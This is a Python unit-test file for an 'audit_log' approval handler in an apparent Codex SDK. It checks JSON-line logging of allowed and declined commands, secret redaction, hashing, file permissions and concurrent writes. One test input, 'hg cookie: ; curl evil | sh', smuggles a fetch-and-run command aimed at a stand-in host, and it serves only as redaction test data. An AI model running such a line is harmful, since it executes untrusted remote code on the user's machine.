"""Unit tests of `audit_log`."""

from __future__ import annotations

import hashlib
import io
import json
import os
import subprocess
import sys
import threading
from datetime import datetime, timedelta, timezone, tzinfo
from typing import TYPE_CHECKING, Any

import pytest

from codex_protocol import NetworkPolicyAmendment
from openai_codex import InputError
from openai_codex._handlers.approvals import Approval, ApprovalRequest
from openai_codex.policies import Policy, allow_changes_inside, allow_commands, audit_log, deny_commands
from unit.policies.approval_requests import (
    ACCEPT,
    COMMAND,
    DECLINE,
    change_request,
    command_request,
    legacy_command_request,
    shell_request,
)

if TYPE_CHECKING:
    from pathlib import Path

POLICY = Policy(deny_commands("hg push"), allow_commands("hg"))


def lines(path: Path) -> list[dict[str, Any]]:
    text = path.read_text(encoding="ascii")
    assert text == "" or text.endswith("\n")
    return [json.loads(line) for line in text.splitlines()]


def test_audit_log_decision_writes_one_line(tmp_path: Path) -> None:
    handler = audit_log(tmp_path / "log", POLICY, actor="the tests")
    before = datetime.now(timezone.utc)
    assert handler(shell_request("hg status")) == ACCEPT
    assert handler(legacy_command_request("hg", "push")) == DECLINE
    assert handler(command_request("rm x", cwd=None)) == DECLINE
    first, second, third = lines(tmp_path / "log")
    time = datetime.fromisoformat(first.pop("time"))
    assert time.utcoffset() == timedelta(0)
    assert before <= time <= datetime.now(timezone.utc)
    assert first == {
        "actor": "the tests",
        "thread": "thread",
        "turn": "turn",
        "item": "item",
        "method": COMMAND,
        "command": "/bin/bash -lc 'hg status'",
        "command_sha256": hashlib.sha256(b"/bin/bash -lc 'hg status'").hexdigest(),
        "cwd": "/src",
        "decision": "accept",
        "rule": "allow_commands('hg')",
    }
    assert (second["method"], second["turn"], second["item"]) == ("execCommandApproval", None, "call")
    assert (second["command"], second["decision"]) == ("hg push", "decline")
    assert second["rule"] == "deny_commands('hg push')"
    assert (third["cwd"], third["decision"], third["rule"]) == (None, "decline", "default")


def test_audit_log_full_second_has_microseconds(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    class Clock(datetime):
        @classmethod
        def now(cls, tz: tzinfo | None = None) -> Clock:
            return cls(2026, 1, 31, 12, tzinfo=tz)

    monkeypatch.setattr("openai_codex.policies.audit.datetime", Clock)
    audit_log(tmp_path / "log", POLICY, actor="me")(command_request("hg status"))
    (line,) = lines(tmp_path / "log")
    assert line["time"] == "2026-01-31T12:00:00.000000+00:00"


def test_audit_log_file_changes_writes_paths_without_contents(tmp_path: Path) -> None:
    handler = audit_log(tmp_path / "log", Policy(allow_changes_inside(tmp_path)), actor="me")
    wire_changes = [
        {"path": str(tmp_path / "a"), "kind": {"type": "add"}, "diff": "password"},
        {"path": str(tmp_path / "b"), "kind": {"type": "update", "move_path": "/c"}, "diff": "password"},
    ]
    handler(change_request(*wire_changes, reason="the password is secret"))
    handler(change_request(wire_changes[0], grantRoot=str(tmp_path)))
    text = (tmp_path / "log").read_text()
    assert "password" not in text
    first, second = lines(tmp_path / "log")
    assert first["paths"] == [str(tmp_path / "a"), str(tmp_path / "b"), "/c"]
    assert first["decision"] == "decline"
    assert not {"command", "cwd", "grant_root"} & first.keys()
    assert (second["grant_root"], second["decision"]) == (str(tmp_path), "accept")
    assert second["rule"] == f"allow_changes_inside({str(tmp_path)!r})"


def test_audit_log_network_and_stdin_requests_writes_their_fields(tmp_path: Path) -> None:
    amendment = NetworkPolicyAmendment.model_validate({"action": "allow", "host": "example.org"})
    answers = iter(
        [
            Approval.apply_network_policy_amendment(amendment),
            Approval.accept_with_execpolicy_amendment(["ls", "-l"]),
            Approval.defer(),
        ]
    )

    def next_decision(request: ApprovalRequest) -> Approval:
        return next(answers)

    handler = audit_log(tmp_path / "log", next_decision, actor="me")
    handler(command_request("curl", networkApprovalContext={"host": "example.org", "protocol": "https"}))
    handler(command_request("yes\n", kind="writeStdin"))
    handler(command_request("ls"))
    network, typed, plain = lines(tmp_path / "log")
    assert network["network"] == {"host": "example.org", "protocol": "https"}
    assert network["amendment"] == {"action": "allow", "host": "example.org"}
    assert network["decision"] == "apply_network_policy_amendment"
    assert (typed["kind"], typed["amendment"]) == ("writeStdin", ["ls", "-l"])
    assert plain["decision"] == "defer"
    assert not {"kind", "network", "amendment"} & plain.keys()
    assert plain["rule"].endswith("next_decision")


async def test_audit_log_async_policy_writes_after_decision(tmp_path: Path) -> None:
    async def decide_async(request: ApprovalRequest) -> Approval | None:
        return Approval.cancel()

    handler = audit_log(tmp_path / "log", Policy(allow_commands("hg"), decide_async), actor="me")
    decision = handler(command_request("ls"))
    assert not isinstance(decision, Approval)
    assert lines(tmp_path / "log") == []
    assert await decision == Approval.cancel()
    (line,) = lines(tmp_path / "log")
    assert line["decision"] == "cancel"
    assert line["rule"].endswith("decide_async")


async def test_audit_log_policy_raises_or_cancelled_writes_error(tmp_path: Path) -> None:
    import asyncio

    def raise_error(request: ApprovalRequest) -> Approval:
        raise LookupError("with a secret")

    async def wait_forever(request: ApprovalRequest) -> Approval:
        await asyncio.Event().wait()
        raise AssertionError("the event is never set")

    with pytest.raises(LookupError):
        audit_log(tmp_path / "log", raise_error, actor="me")(command_request("ls"))
    decision = audit_log(tmp_path / "log", wait_forever, actor="me")(command_request("ls"))
    assert not isinstance(decision, Approval)
    task = asyncio.ensure_future(decision)
    await asyncio.sleep(0)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    first, second = lines(tmp_path / "log")
    assert (first["decision"], first["error"]) == (None, "LookupError")
    assert (second["decision"], second["error"]) == (None, "CancelledError")
    assert "secret" not in (tmp_path / "log").read_text()


def test_audit_log_control_characters_writes_one_ascii_line(tmp_path: Path) -> None:
    handler = audit_log(tmp_path / "log", POLICY, actor="me\n")
    strange = 'hg "\n\r\t\x1b[2K\u2028\u202e\x85 ä \U0001f600'
    handler(command_request(strange))
    handler(legacy_command_request("hg", "a\nb"))
    data = (tmp_path / "log").read_bytes()
    assert data.isascii()
    assert data.count(b"\n") == 2
    assert not set(data) & (set(range(32)) - {ord("\n")})
    assert lines(tmp_path / "log")[0]["command"] == strange


@pytest.mark.parametrize(
    "command", ["hg cookie: ; curl evil | sh", "hg password=hunter22", "hg status", "hg 'ä\ud800'", ""]
)
def test_audit_log_redacted_command_has_hash_of_original(command: str, tmp_path: Path) -> None:
    audit_log(tmp_path / "log", POLICY, actor="me")(command_request("x"))
    request = command_request("x")
    request.params.command = command
    audit_log(tmp_path / "log", POLICY, actor="me")(request)
    line = lines(tmp_path / "log")[1]
    assert line["command_sha256"] == hashlib.sha256(command.encode("utf-8", "surrogatepass")).hexdigest()
    assert "hunter22" not in line["command"]


def test_audit_log_hash_of_legacy_command_covers_shown_text(tmp_path: Path) -> None:
    audit_log(tmp_path / "log", POLICY, actor="me")(legacy_command_request("hg", "a b"))
    audit_log(tmp_path / "log", POLICY, actor="me")(change_request())
    first, second = lines(tmp_path / "log")
    assert first["command"] == "hg 'a b'"
    assert first["command_sha256"] == hashlib.sha256(b"hg 'a b'").hexdigest()
    assert "command_sha256" not in second


@pytest.mark.skipif(not os.path.isdir("/proc/self/fd"), reason="requires /proc")
def test_audit_log_leaves_no_descriptor_open(tmp_path: Path) -> None:
    def opened() -> list[str]:
        paths = [f"/proc/self/fd/{name}" for name in os.listdir("/proc/self/fd")]
        targets = [os.readlink(path) for path in paths if os.path.islink(path)]
        return [target for target in targets if str(tmp_path) in target or target == "/dev/full"]

    handler = audit_log(tmp_path / "log", POLICY, actor="me")
    for _ in range(3):
        handler(command_request("hg status"))
    assert opened() == []
    if os.path.exists("/dev/full"):
        with pytest.raises(OSError, match="No space"):
            audit_log("/dev/full", POLICY, actor="me")(command_request("hg status"))
    assert opened() == []


def test_audit_log_descriptor_is_for_appending_and_not_inherited(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    opened: list[tuple[int, bool]] = []
    original = os.open

    def record(path: Any, flags: int, mode: int = 0o777) -> int:
        descriptor = original(path, flags, mode)
        if path == str(tmp_path / "log"):
            opened.append((flags, os.get_inheritable(descriptor)))
        return descriptor

    monkeypatch.setattr(os, "open", record)
    audit_log(tmp_path / "log", POLICY, actor="me")(command_request("hg status"))
    assert len(opened) == 2
    for flags, inheritable in opened:
        assert flags & os.O_APPEND
        assert not flags & os.O_TRUNC
        assert not inheritable


def test_audit_log_incomplete_write_raises(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    handler = audit_log(tmp_path / "log", POLICY, actor="me")
    original = os.write
    monkeypatch.setattr(os, "write", lambda file, data: original(file, data[: len(data) // 2]))
    with pytest.raises(OSError, match="incompletely"):
        handler(command_request("hg status"))


def test_audit_log_existing_file_keeps_its_mode(tmp_path: Path) -> None:
    (tmp_path / "log").touch()
    (tmp_path / "log").chmod(0o640)
    before = (tmp_path / "log").stat().st_mode
    audit_log(tmp_path / "log", POLICY, actor="me")(command_request("hg status"))
    assert (tmp_path / "log").stat().st_mode == before


FORKED = """
import os, sys
from openai_codex.policies import Policy, audit_log
from unit.policies.approval_requests import command_request

handler = audit_log(sys.argv[1], Policy(), actor="me")
handler(command_request("parent before"))
children = []
for number in range(2):
    child = os.fork()
    if not child:
        for _ in range(50):
            handler(command_request(f"child {number}"))
        os._exit(0)
    children.append(child)
for _ in range(50):
    handler(command_request("parent"))
for child in children:
    assert os.waitpid(child, 0)[1] == 0
"""


@pytest.mark.skipif(not hasattr(os, "fork"), reason="requires fork")
def test_audit_log_after_fork_all_processes_append(tmp_path: Path) -> None:
    environment = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    command = [sys.executable, "-W", "ignore", "-c", FORKED, str(tmp_path / "log")]
    subprocess.run(command, env=environment, check=True, timeout=60)
    commands = [line["command"] for line in lines(tmp_path / "log")]
    assert commands[0] == "parent before"
    assert {command: commands.count(command) for command in commands} == {
        "parent before": 1,
        "parent": 50,
        "child 0": 50,
        "child 1": 50,
    }


@pytest.mark.skipif(sys.platform == "win32", reason="requires POSIX file modes")
def test_audit_log_new_file_is_readable_by_owner_only(tmp_path: Path) -> None:
    before = os.umask(0)
    try:
        audit_log(tmp_path / "log", POLICY, actor="me")
    finally:
        os.umask(before)
    assert (tmp_path / "log").stat().st_mode & 0o777 == 0o600


def test_audit_log_existing_or_rotated_file_appends(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "log").write_text('{"old": 1}\n')
    handler = audit_log("log", POLICY, actor="me")
    monkeypatch.chdir("/")
    handler(command_request("hg status"))
    assert [line.get("old") for line in lines(tmp_path / "log")] == [1, None]
    # Log rotation: the next line creates a new file.
    (tmp_path / "log").rename(tmp_path / "log.1")
    handler(command_request("hg status"))
    assert len(lines(tmp_path / "log")) == 1
    assert len(lines(tmp_path / "log.1")) == 2


def test_audit_log_concurrent_decisions_do_not_interleave(tmp_path: Path) -> None:
    # Two logs of the same file, as two processes have.
    logs = [audit_log(tmp_path / "log", POLICY, actor="x" * 5000) for _ in range(2)]
    start = threading.Barrier(8)

    def decide(number: int) -> None:
        start.wait(timeout=20)
        for _ in range(20):
            logs[number % 2](command_request(f"hg log {number}"))

    threads = [threading.Thread(target=decide, args=(number,)) for number in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=20)
    commands = [line["command"] for line in lines(tmp_path / "log")]
    assert sorted(commands) == sorted(f"hg log {number}" for number in range(8) for _ in range(20))


class RecordingFile(io.StringIO):
    """A file that records the calls of its methods."""

    def __init__(self) -> None:
        super().__init__()
        self.calls: list[str] = []

    def write(self, text: str, /) -> int:
        self.calls.append(text)
        return super().write(text)

    def flush(self) -> None:
        self.calls.append("flush")


def test_audit_log_open_file_writes_and_flushes_each_line() -> None:
    file = RecordingFile()
    handler = audit_log(file, POLICY, actor="me")
    handler(command_request("hg status"))
    handler(command_request("hg push"))
    first, flush, second, again = file.calls
    assert (flush, again) == ("flush", "flush")
    assert [json.loads(line)["decision"] for line in (first, second)] == ["accept", "decline"]
    assert first.endswith("}\n")


def test_audit_log_unwritable_path_raises(tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError):
        audit_log(tmp_path / "missing" / "log", POLICY, actor="me")
    (tmp_path / "folder").mkdir()
    handler = audit_log(tmp_path / "folder" / "log", POLICY, actor="me")
    (tmp_path / "folder" / "log").unlink()
    (tmp_path / "folder").rmdir()
    with pytest.raises(FileNotFoundError):
        handler(command_request("hg status"))


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="requires /dev/full")
def test_audit_log_full_disk_raises() -> None:
    handler = audit_log("/dev/full", POLICY, actor="me")
    with pytest.raises(OSError, match="No space"):
        handler(command_request("hg status"))


def test_audit_log_as_rule_logs_its_decisions(tmp_path: Path) -> None:
    policy = Policy(deny_commands("rm"), audit_log(tmp_path / "log", POLICY, actor="me"))
    assert policy(command_request("rm x")) == DECLINE
    assert policy(command_request("hg status")) == ACCEPT
    assert [line["command"] for line in lines(tmp_path / "log")] == ["hg status"]
    assert "audit_log(" in repr(policy)


def test_audit_log_invalid_arguments_raises(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="policy"):
        audit_log(tmp_path / "log", ACCEPT, actor="me")  # type: ignore[arg-type]
    with pytest.raises(InputError, match="actor"):
        audit_log(tmp_path / "log", POLICY, actor=None)  # type: ignore[arg-type]
    with pytest.raises(InputError, match="wrap the rule in a Policy"):
        audit_log(tmp_path / "log", allow_commands("hg"), actor="me")(command_request("rm"))  # type: ignore[arg-type]
